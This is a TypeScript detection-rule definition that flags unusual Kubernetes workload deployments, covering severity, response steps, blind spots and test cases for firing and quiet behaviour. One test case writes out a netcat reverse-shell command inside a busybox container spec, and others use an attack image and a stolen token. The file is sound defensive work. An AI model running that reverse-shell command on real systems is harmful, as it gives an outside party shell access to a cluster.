import { isTelling } from '#services/behaviour/kubernetes/running.ts';
import { workloadOf } from '#services/sources/eks-audit/workload.ts';
import { defineAnomalousDeeds } from '../kits/anomalous-deeds.ts';
import { after, APPLICATION, atFirst, byThief, containersOf, DEPLOYMENTS, LOOKS, runs } from '../kits/deed-stories.ts';
import { workloadDetails } from '../kits/kubernetes-workload.ts';

export default defineAnomalousDeeds({
  type: 'Execution:Kubernetes/AnomalousBehavior.WorkloadDeployed',
  tactic: 'WorkloadDeployed',
  title: 'Something is run in a cluster in an unusual way',
  why: 'What an intruder runs in a cluster mines, attacks others, or stays.',
  asks: 'Did somebody run an image in a cluster who does not, or one that only intruders run?',
  attack: ['T1610'],
  severity: 'Low',
  worse: {
    severity: 'Medium',
    when: 'its image is made to attack with or to mine, or its command is one of intruders',
    of: (record) => workloadOf(record).containers.some(isTelling),
  },
  did: 'ran workloads in',
  isDeployed: true,
  workload: workloadDetails,
  asff: 'TTPs/AnomalousBehavior/Execution:Kubernetes-WorkloadDeployed',
  respond: [
    'Ask whoever ran it what for, and where the image is from.',
    'If it was not them, take their rights in the cluster, delete the workload, and replace the nodes on which it ran.',
    'Have an admission policy refuse images that are from none of your registries.',
  ],
  blindTo: [
    'Which image it is among many from one registry: registries are told apart, images not.',
    'What controllers of your own run, in kube-system or of resources of their own.',
    'Requests whose object is not in the log.',
  ],
  falsePositives: ['Tests of the defences of a cluster, with the tools of attackers.'],
  examples: {
    fires: {
      'an image to attack with': () =>
        atFirst(runs('create', 'pods', {}, containersOf('kalilinux/kali-rolling:latest'))),
      'a command that opens a shell to elsewhere': () =>
        atFirst(
          runs(
            'create',
            'deployments',
            {},
            containersOf('busybox', {
              command: ['sh', '-c', 'mkfifo /tmp/f; nc 203.0.113.9 443 </tmp/f | sh >/tmp/f'],
            }),
          ),
        ),
      'the token of an application, out of the cluster': () =>
        after(20, APPLICATION, runs('create', 'pods', {}, containersOf('busybox'), byThief('shop', 'web'))),
    },
    quiet: {
      'a pipeline installs twenty products on the first day': () =>
        atFirst(
          ...Array.from({ length: 20 }, (_, i) =>
            runs('create', 'deployments', { namespace: `ns-${i}` }, containersOf(`registry.example/product-${i}:1`)),
          ),
        ),
      'a pipeline takes up another registry': () =>
        after(30, DEPLOYMENTS, runs('create', 'deployments', {}, containersOf('quay.io/example/proxy:2'))),
      'somebody tries an image': () => after(30, LOOKS, runs('create', 'pods', {}, containersOf('curlimages/curl'))),
      'what runs is only scaled': () =>
        after(
          30,
          LOOKS,
          runs('patch', 'deployments', { name: 'web' }, {}, { requestObject: { spec: { replicas: 9 } } }),
        ),
      'only tried out': () =>
        atFirst(
          runs('create', 'pods', {}, containersOf('kalilinux/kali-rolling'), {
            requestURI: '/api/v1/namespaces/shop/pods?dryRun=All',
          }),
        ),
      'an image that is only called alike': () =>
        atFirst(runs('create', 'pods', {}, containersOf('registry.example/xmrig-detector:1'))),
    },
  },
});
